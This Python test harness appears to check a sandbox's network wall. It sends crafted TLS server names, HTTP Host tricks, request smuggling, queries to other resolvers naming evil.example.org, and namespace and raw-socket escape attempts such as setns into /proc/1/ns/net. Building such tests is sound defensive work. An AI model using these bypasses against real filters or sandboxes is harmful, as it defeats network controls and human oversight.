"""What a hostile command would try against the wall around its network: a numbered list.

    python network_attacks.py WORLD.json KIND

Prints one JSON line for each attack of the kind: its name, and what it saw. Whether a `greeting`
reached its goal, the server of the test tells: it holds the attack's mark. An attack from `inside`
tells that itself, by a return value that is true.

`WORLD.json` says what there is to reach: see `test_network_attacks.py`, which furnishes it. Only
the standard library, for the program runs in a bare room.
"""

import contextlib
import ctypes
import fcntl
import json
import os
import platform
import socket
import struct
import subprocess
import sys
import termios
import time
from collections.abc import Callable

LIBC = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
ATTACKS: dict[str, "Attack"] = {}
WAIT_S = 2.0
URGENT = b"!"


class Attack:
    """One entry.

    `works_for`: who reaches the goal without the wall. `has_neighbour`: whether the same program
    passes with the allowed name. `is_gap`: the contract says that it gets through.
    """

    def __init__(self, kind: str, act: Callable, works_for: str = "everybody") -> None:
        self.number = len(ATTACKS) + 1
        self.mark = b"<N%d>" % self.number
        self.kind = kind
        self.name = act.__name__
        self.act = act
        self.works_for = works_for
        self.has_neighbour = True
        self.is_gap = False


def greeting(act):
    """Ask a server that may be reached for another name that it serves, too."""
    ATTACKS[act.__name__] = Attack("greeting", act)
    return act


def alone(act):
    """A greeting that nobody who is honest sends, whatever name it holds."""
    greeting(act)
    ATTACKS[act.__name__].has_neighbour = False
    return act


def gap(act):
    """A greeting that gets through, which the contract says."""
    greeting(act)
    ATTACKS[act.__name__].is_gap = True
    return act


def inside(works_for: str):
    """Something else that is tried from inside: it tells whether it reached its goal."""

    def keep(act):
        ATTACKS[act.__name__] = Attack("inside", act, works_for)
        return act

    return keep


def say(world: dict, *pieces: bytes, urgent_at: int = -1, is_ended: bool = False) -> bytes:
    """Send pieces, each as a packet of its own, and return what the server gives back."""
    made = socket.create_connection((world["front"], world["front_port"]), WAIT_S)
    with made:
        made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        answer = b""
        with contextlib.suppress(OSError):
            for number, piece in enumerate(pieces):
                made.send(piece, socket.MSG_OOB if number == urgent_at else 0)
            if is_ended:
                made.shutdown(socket.SHUT_WR)
            answer = made.recv(64)
            flush(made)
        return answer


def flush(made: socket.socket) -> None:
    """Wait until all has left: who closes with something unread throws away what is unsent."""
    until_s = time.monotonic() + WAIT_S
    while time.monotonic() < until_s:
        (unsent,) = struct.unpack("i", fcntl.ioctl(made, termios.TIOCOUTQ, bytes(4)))
        if not unsent:
            return
        with contextlib.suppress(BlockingIOError):
            made.recv(65536, socket.MSG_DONTWAIT)
        time.sleep(0.001)


def ones(data: bytes) -> list[bytes]:
    return [data[at : at + 1] for at in range(len(data))]


# --- TLS: names of servers ------------------------------------------------------


def extension(kind: int, content: bytes) -> bytes:
    return struct.pack(">HH", kind, len(content)) + content


def names_of(*entries: tuple[int, bytes]) -> bytes:
    listed = b"".join(struct.pack(">BH", kind, len(name)) + name for kind, name in entries)
    return extension(0, struct.pack(">H", len(listed)) + listed)


def hello(mark: bytes, *extensions: bytes, padding: int = 0) -> bytes:
    """A ClientHello, without its record; the mark is the protocol that it wants to speak."""
    offered = bytes([len(mark)]) + mark
    protocols = extension(16, struct.pack(">H", len(offered)) + offered)
    more = (protocols, extension(21, bytes(padding))) if padding else (protocols,)
    listed = b"".join((*extensions, *more))
    body = b"\x03\x03" + bytes(32) + b"\0" + b"\0\x02\x13\x01" + b"\x01\0"
    body += struct.pack(">H", len(listed)) + listed
    return b"\x01" + len(body).to_bytes(3, "big") + body


def record(content: bytes, kind: int = 0x16, version: bytes = b"\x03\x01") -> bytes:
    return bytes([kind]) + version + struct.pack(">H", len(content)) + content


def plain_hello(world: dict, name: bytes | None = None) -> bytes:
    return record(hello(world["mark"], names_of((0, name or world["host"]))))


@greeting
def a_server_name_of_another(world):
    say(world, plain_hello(world))


@greeting
def a_server_name_in_one_byte_pieces(world):
    say(world, *ones(plain_hello(world)))


@greeting
def a_server_name_in_fragments(world):
    whole = hello(world["mark"], names_of((0, world["host"])))
    say(world, b"".join(record(whole[at : at + 7]) for at in range(0, len(whole), 7)))


@greeting
def a_server_name_in_capitals_with_a_dot(world):
    say(world, plain_hello(world, world["host"].upper() + b"."))


@alone
def two_server_names_in_one_list(world):
    names = names_of((0, b"good.example.org"), (0, world["host"]))
    say(world, record(hello(world["mark"], names)))


@alone
def two_lists_of_server_names(world):
    lists = names_of((0, b"good.example.org")), names_of((0, world["host"]))
    say(world, record(hello(world["mark"], *lists)))


@alone
def a_server_name_of_another_kind_first(world):
    names = names_of((1, b"good.example.org"), (0, world["host"]))
    say(world, record(hello(world["mark"], names)))


@alone
def a_server_name_with_a_nul(world):
    say(world, plain_hello(world, b"good.example.org\0." + world["host"]))


@alone
def a_server_name_behind_a_warning(world):
    say(world, record(b"\x01\x00", kind=0x15) + plain_hello(world))


@alone
def a_server_name_behind_a_change_of_ciphers(world):
    say(world, record(b"\x01", kind=0x14) + plain_hello(world))


@alone
def a_server_name_behind_an_empty_record(world):
    say(world, record(b"") + plain_hello(world))


@alone
def a_server_name_in_a_record_of_an_unknown_version(world):
    say(world, record(hello(world["mark"], names_of((0, world["host"]))), version=b"\x03\x09"))


@alone
def a_server_name_behind_64_kb(world):
    whole = hello(world["mark"], names_of((0, world["host"])), padding=60_000)
    whole += bytes(10_000)
    whole = b"\x01" + (len(whole) - 4).to_bytes(3, "big") + whole[4:]
    say(world, b"".join(record(whole[at : at + 16000]) for at in range(0, len(whole), 16000)))


@alone
def a_hello_of_ssl_2(world):
    body = b"\x01\x03\x03" + struct.pack(">HHH", 3, 0, 16) + b"\0\0\x2f" + bytes(16)
    say(world, struct.pack(">H", 0x8000 | len(body)) + body + world["mark"])


@alone
def a_server_name_around_an_urgent_byte(world):
    whole = plain_hello(world)
    say(world, whole[:3], whole[3:4], whole[4:], urgent_at=1)


@gap
def no_server_name_at_all(world):
    say(world, record(hello(world["mark"])))


# --- clear HTTP: hosts of requests ----------------------------------------------


def request(world: dict, *lines: bytes, first: bytes = b"") -> bytes:
    first = first or b"GET /%b HTTP/1.1" % world["mark"]
    return b"\r\n".join((first, *lines, b"", b""))


@greeting
def a_host_of_another(world):
    say(world, request(world, b"Host: " + world["host"]))


@greeting
def a_host_in_one_byte_pieces(world):
    say(world, *ones(request(world, b"Host: " + world["host"])))


@greeting
def a_host_behind_empty_lines(world):
    say(world, b"\r\n\r\n" + request(world, b"hOsT:\t" + world["host"].upper() + b".:80"))


@greeting
def a_host_of_http_1_0(world):
    first = b"GET /%b HTTP/1.0" % world["mark"]
    say(world, request(world, b"Host: " + world["host"], first=first))


@greeting
def a_target_with_a_host(world):
    first = b"GET http://%b/%b HTTP/1.1" % (world["host"], world["mark"])
    say(world, request(world, b"Host: good.example.org", first=first))


@greeting
def a_tunnel_to_another(world):
    first = b"CONNECT %b:443 HTTP/1.1" % world["host"]
    say(world, request(world, b"Host: %b:443" % world["host"], b"X: " + world["mark"], first=first))


@greeting
def a_host_behind_200_headers(world):
    say(world, request(world, *[b"X: y"] * 200, b"Host: " + world["host"]))


@greeting
def a_method_in_small_letters(world):
    first = b"get /%b HTTP/1.1" % world["mark"]
    say(world, request(world, b"Host: " + world["host"], first=first))


@alone
def two_hosts(world):
    say(world, request(world, b"Host: good.example.org", b"Host: " + world["host"]))


@alone
def a_host_and_a_host_with_a_space(world):
    say(world, request(world, b"Host: good.example.org", b"Host : " + world["host"]))


@alone
def a_folded_host(world):
    say(world, request(world, b"Host:", b" " + world["host"]))


@alone
def a_list_of_hosts(world):
    say(world, request(world, b"Host: good.example.org, " + world["host"]))


@alone
def a_host_behind_a_user(world):
    first = b"GET http://good.example.org@%b/%b HTTP/1.1" % (world["host"], world["mark"])
    say(world, request(world, b"Host: " + world["host"], first=first))


@alone
def a_host_in_letters_that_look_alike(world):
    say(world, request(world, "Host: gооd.example.org".encode()))


@alone
def a_host_on_lines_without_returns(world):
    say(world, request(world, b"Host: " + world["host"]).replace(b"\r", b""))


@alone
def a_request_line_with_tabs(world):
    first = b"GET\t/%b\tHTTP/1.1" % world["mark"]
    say(world, request(world, b"Host: " + world["host"], first=first))


@alone
def an_old_request_without_headers(world):
    say(world, b"GET http://%b/%b\r\n" % (world["host"], world["mark"]))


@alone
def clear_http_2(world):
    say(world, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + world["mark"])


@alone
def a_head_that_never_ends(world):
    say(world, request(world, b"Host: " + world["host"])[:-2])


@alone
def a_method_around_an_urgent_byte(world):
    whole = request(world, b"Host: " + world["host"])
    say(world, b"PO", URGENT, b"ST" + whole[3:], urgent_at=1)


@alone
def a_method_around_an_urgent_byte_and_an_end(world):
    whole = request(world, b"Host: " + world["host"])
    say(world, b"PO", URGENT, b"ST" + whole[3:], urgent_at=1, is_ended=True)


@alone
def a_head_that_fills_the_buffer_before_its_host(world):
    # Each small packet costs the receiver a page's bookkeeping: its window closes early.
    start = b"\r\n" * 16_000 + b"POST /" + b"x" * 300
    rest = world["mark"] + b" HTTP/1.1\r\nHost: " + world["host"] + b"\r\n\r\n"
    say(world, start[:31_000], *ones(start[31_000:32_306]), b"", rest)


@alone
def a_request_behind_words_of_a_proxy(world):
    whole = request(world, b"Host: " + world["host"])
    say(world, b"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n" + whole)


@alone
def a_request_behind_a_head_of_a_proxy(world):
    head = b"\r\n\r\n\0\r\nQUIT\n\x20\0\0\0"
    say(world, head + request(world, b"Host: " + world["host"]))


@gap
def a_later_request(world):
    first = b"GET / HTTP/1.1\r\nHost: good.example.org\r\n\r\n"
    say(world, first + request(world, b"Host: " + world["host"]))


@gap
def a_request_smuggled_in_a_body(world):
    rest = request(world, b"Host: " + world["host"])
    first = b"POST / HTTP/1.1\r\nHost: good.example.org\r\nContent-Length: 4\r\n"
    say(world, first + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + rest)


# --- other ways out -------------------------------------------------------------


def answers(family: int, kind: int, address: object, said: bytes) -> bool:
    with socket.socket(family, kind) as made:
        made.settimeout(WAIT_S)
        made.connect(address)
        made.sendall(said)
        return made.recv(64) != b""


def name_server() -> str:
    """The sandbox's own: where several share a network, each has one."""
    with open("/etc/resolv.conf") as file:
        return file.read().split()[1]


def question(name: bytes, kind: int = 1) -> bytes:
    """A DNS question, with labels as they are given."""
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)


def call(x86: int, arm: int, *arguments) -> int:
    """A system call by its number; raises OSError."""
    words = [ctypes.c_char_p(a) if isinstance(a, bytes) else ctypes.c_long(a) for a in arguments]
    found = LIBC.syscall(ctypes.c_long(x86 if X86 else arm), *words)
    if found < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return found


@inside("everybody")
def a_literal_address_of_the_hosts_loopback(world):
    return answers(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", world["tcp"]), b"hello")


@inside("some")
def a_literal_address_by_ipv6(world):
    return answers(socket.AF_INET6, socket.SOCK_STREAM, ("::1", world["tcp6"]), b"hello")


@inside("everybody")
def another_resolver(world):
    address = (world["resolver"], world["resolver_udp"])
    return answers(socket.AF_INET, socket.SOCK_DGRAM, address, question(b"evil.example.org"))


@inside("everybody")
def another_resolver_over_tcp(world):
    said = question(b"evil.example.org")
    said = struct.pack(">H", len(said)) + said
    return answers(socket.AF_INET, socket.SOCK_STREAM, (world["resolver"], world["tcp_far"]), said)


@inside("everybody")
def another_resolver_over_http(world):
    said = b"GET /dns-query?name=evil.example.org HTTP/1.1\r\nHost: dns.example.net\r\n\r\n"
    return answers(socket.AF_INET, socket.SOCK_STREAM, (world["resolver"], world["tcp_far"]), said)


@inside("everybody")
def the_hosts_proxy(world):
    said = b"CONNECT evil.example.org:443 HTTP/1.1\r\nHost: evil.example.org:443\r\n\r\n"
    given = [value for name, value in os.environ.items() if name.lower() == "https_proxy"]
    port = int(given[0].rpartition(":")[2]) if given else world["tcp"]
    return answers(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port), said)


@inside("everybody")
def an_abstract_socket_of_the_host(world):
    return answers(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + world["abstract"], b"hello")


@inside("everybody")
def a_socket_of_the_host_in_the_workspace(world):
    return answers(socket.AF_UNIX, socket.SOCK_STREAM, world["path"], b"hello")


@inside("root")
def a_raw_socket(world):
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@inside("root")
def a_packet_socket(world):
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))


@inside("some")
def routes_by_netlink(world):
    ran = subprocess.run(["ip", "route", "show", "table", "all"], capture_output=True, check=True)
    return ran.stdout or socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)


@inside("some")
def a_socket_to_the_hypervisor(world):
    return socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)


@inside("some")
def sockets_by_a_ring(world):
    return call(425, 425, 8, bytes(120)) >= 0


@inside("some")
def a_network_of_its_own(world):
    if LIBC.unshare(0x10000000 | 0x40000000) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    return True


@inside("some")
def the_network_of_the_first_process(world):
    fd = os.open("/proc/1/ns/net", os.O_RDONLY)
    if LIBC.setns(fd, 0x40000000) != 0:
        raise OSError(ctypes.get_errno(), "setns")
    return True


@inside("some")
def another_device(world):
    with open("/proc/net/dev", encoding="ascii") as table:
        names = [line.partition(":")[0].strip() for line in list(table)[2:]]
    with socket.socket() as made:
        for name in set(names) - {"lo"}:
            made.setsockopt(socket.SOL_SOCKET, 25, name.encode() + b"\0")  # SO_BINDTODEVICE
            return True
    return False


@inside("root")
def addresses_that_are_not_its_own(world):
    with socket.socket() as made:
        made.setsockopt(socket.SOL_IP, 19, 1)  # IP_TRANSPARENT
        return True


@inside("root")
def the_place_of_the_name_server(world):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            made.setsockopt(socket.SOL_SOCKET, option, 1)
        made.bind((world["name_server"], 53))
        return True


@inside("everybody")
def a_share_of_a_listener(world):
    place = socket.gethostbyname(world["shared_host"])
    # So that it listens: behind the wall nobody does before the name was asked for.
    with socket.socket() as made:
        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            made.setsockopt(socket.SOL_SOCKET, option, 1)
        made.bind((place, world["shared_port"]))
        made.listen()
        return True


# --- the program ----------------------------------------------------------------


def attempt(chosen: Attack, world: dict) -> dict[str, object]:
    try:
        reached, why = bool(chosen.act(world | {"mark": chosen.mark})), ""
    except (OSError, ValueError, AttributeError, subprocess.SubprocessError) as error:
        reached, why = False, f"{type(error).__name__}: {error}"
    return {"name": chosen.name, "reached": reached, "why": why}


def main(arguments: list[str]) -> None:
    with open(arguments[0], encoding="utf-8") as file:
        world = json.load(file)
    world["host"] = world["host"].encode()
    children = []
    for chosen in ATTACKS.values():
        if chosen.kind != arguments[1]:
            continue
        child = os.fork()
        if child == 0:
            line = json.dumps(attempt(chosen, world)) + "\n"
            # One write, which nothing of another process comes between.
            os.write(1, line.encode())
            os._exit(0)
        children.append(child)
        if arguments[1] != "greeting":
            # What one does to the network of all spoils the next at most after its end.
            os.waitpid(children.pop(), 0)
    for child in children:
        os.waitpid(child, 0)


if __name__ == "__main__":
    main(sys.argv[1:])
